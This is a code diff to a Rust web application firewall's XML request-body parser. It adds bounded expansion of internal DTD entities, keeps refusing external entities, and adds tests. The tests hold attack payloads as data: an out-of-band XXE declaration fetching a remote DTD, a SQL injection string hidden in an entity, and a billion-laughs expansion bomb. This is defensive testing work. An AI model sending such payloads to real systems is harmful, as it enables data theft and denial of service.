@@ -298,6 +298,7 @@ impl RequestData {
     ///
     /// The whole document's text is also available as `REQUEST_BODY`.
     pub fn parse_xml_body(&mut self) -> Result<(), String> {
+        use super::xml_dtd::Expansion;
         use quick_xml::events::Event;
 
         self.body_processor = "XML".to_string();
@@ -317,6 +318,8 @@ impl RequestData {
         let mut text: Vec<String> = Vec::new();
         let mut count = 0usize;
         let mut unresolved_entity: Option<String> = None;
+        // The entities the document type declaration gives (none until one is read).
+        let mut dtd = super::xml_dtd::Dtd::default();
         let mut buf = Vec::new();
 
         macro_rules! cap {
@@ -388,34 +391,37 @@ impl RequestData {
                     }
                 }
                 Ok(Event::GeneralRef(e)) => {
+                    // What libxml2 reads it as (`xml_dtd.rs`): an internal entity expanded
+                    // within bounds, one an external DTD may declare as nothing.
                     let name = e.decode().map(|n| n.into_owned()).unwrap_or_default();
-                    match resolve_entity(&name) {
-                        Some(resolved) => {
+                    match dtd.expand(&name) {
+                        Expansion::Text(expanded) => {
                             if let Some(current) = text.last_mut() {
-                                current.push_str(&resolved);
+                                current.push_str(&expanded);
                             }
                         }
-                        None => {
-                            // A custom entity. Expanding it is how XXE and
-                            // billion-laughs work, so this deliberately does
-                            // not. But the origin application may expand it,
-                            // and content this engine cannot see is content it
-                            // cannot inspect -- so say so rather than treat
-                            // the document as fully examined.
+                        Expansion::Undeclared => {
                             unresolved_entity.get_or_insert(name);
+                        }
+                        Expansion::TooLarge => {
+                            let msg =
+                                format!("XML body's entity '&{name};' expands past the bounds (entity expansion)");
+                            self.body_error = Some(msg.clone());
+                            return Err(msg);
                         }
                     }
                 }
-                Ok(Event::DocType(e)) => {
-                    if let Some(name) = super::xml_dtd::external_entity(&String::from_utf8_lossy(&e)) {
+                Ok(Event::DocType(e)) => match super::xml_dtd::Dtd::parse(&String::from_utf8_lossy(&e)) {
+                    Ok(declared) => dtd = declared,
+                    Err(name) => {
                         let msg = format!(
-                            "XML body declares the external entity '{name}' (out-of-band XXE: a \
-                             parser that honours the DTD fetches it); refused"
+                            "XML body declares the external entity '{name}' (XXE: a parser that \
+                             honours the DTD fetches it); refused"
                         );
                         self.body_error = Some(msg.clone());
                         return Err(msg);
                     }
-                }
+                },
                 Ok(Event::Eof) => break,
                 Ok(_) => {}
                 Err(e) => {
@@ -443,9 +449,8 @@ impl RequestData {
 
         if let Some(name) = unresolved_entity {
             let msg = format!(
-                "XML body references the undeclared or custom entity '&{name};', which is \
-                 not expanded (expanding it is how XXE and entity-expansion attacks work). \
-                 Any content it carries was not inspected."
+                "XML body references the entity '&{name};', which neither it nor an external \
+                 DTD declares: not well-formed"
             );
             self.body_error = Some(msg.clone());
             return Err(msg);
@@ -476,26 +481,6 @@ fn xml_limit_message() -> String {
         "XML body exceeded {MAX_XML_ARGS} extracted values; only part of the \
          body was inspected"
     )
-}
-
-/// Resolve an entity reference this engine is willing to expand.
-///
-/// The five predefined XML entities and numeric character references only.
-/// Custom entities declared in an internal DTD subset are deliberately not
-/// resolved: expanding those is precisely the mechanism behind XXE and
-/// billion-laughs, and no amount of care makes expanding attacker-supplied
-/// entity definitions safe.
-fn resolve_entity(name: &str) -> Option<String> {
-    if let Some(predefined) = quick_xml::escape::resolve_predefined_entity(name) {
-        return Some(predefined.to_string());
-    }
-    // Numeric character references: &#65; and &#x41;.
-    let digits = name.strip_prefix('#')?;
-    let code = match digits.strip_prefix(['x', 'X']) {
-        Some(hex) => u32::from_str_radix(hex, 16).ok()?,
-        None => digits.parse::<u32>().ok()?,
-    };
-    char::from_u32(code).map(|c| c.to_string())
 }
 
 /// Element and attribute names are ASCII in practice; lossy decoding avoids
@@ -703,6 +688,40 @@ mod tests {
         let mut req = RequestData::new();
         req.append_body(b"<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; ]>\n<xml><t>hi</t></xml>");
         assert!(req.parse_xml_body().unwrap_err().contains("'%remote'"));
+        assert!(req.body_error.is_some(), "REQBODY_ERROR: 200002 refuses it");
+    }
+
+    #[test]
+    fn xml_entities_read_as_libxml2_reads_them() {
+        let parse = |body: &str| {
+            let mut req = RequestData::new();
+            req.append_body(body.as_bytes());
+            (req.parse_xml_body(), req)
+        };
+        // An internal entity is expanded, so what it hides is inspected.
+        let (ok, req) =
+            parse("<?xml version=\"1.0\"?><!DOCTYPE n [<!ENTITY q \"1' union select password from users\">]><n><q>&q;</q></n>");
+        assert_eq!(ok, Ok(()));
+        assert_eq!(req.args_post.get("xml.n.q"), Some(vec!["1' union select password from users"]));
+        // XHTML's entities come from its external DTD, which is not loaded: nothing.
+        let (ok, req) =
+            parse("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"x.dtd\"><html><p>a&nbsp;b</p></html>");
+        assert_eq!(ok, Ok(()));
+        assert_eq!(req.args_post.get("xml.html.p"), Some(vec!["ab"]));
+        // Declared nowhere: not well-formed. Predefined ones and character references
+        // need no declaration.
+        assert!(parse("<n>a&nbsp;b</n>").0.unwrap_err().contains("&nbsp;"));
+        let (ok, req) = parse("<n>caf&#233; &amp; cr&#xE8;me</n>");
+        assert_eq!(ok, Ok(()));
+        assert_eq!(req.args_post.get("xml.n"), Some(vec!["café & crème"]));
+        // Billion laughs: past the bounds.
+        let mut laughs = String::from("<!DOCTYPE l [<!ENTITY a \"lollollollollollollollollollol\">");
+        for (name, inner) in [("b", "a"), ("c", "b"), ("d", "c"), ("e", "d"), ("f", "e"), ("g", "f")] {
+            laughs.push_str(&format!("<!ENTITY {name} \"{}\">", format!("&{inner};").repeat(10)));
+        }
+        laughs.push_str("]><l>&g;</l>");
+        let (refused, req) = parse(&laughs);
+        assert!(refused.unwrap_err().contains("&g;"));
         assert!(req.body_error.is_some(), "REQBODY_ERROR: 200002 refuses it");
     }
 
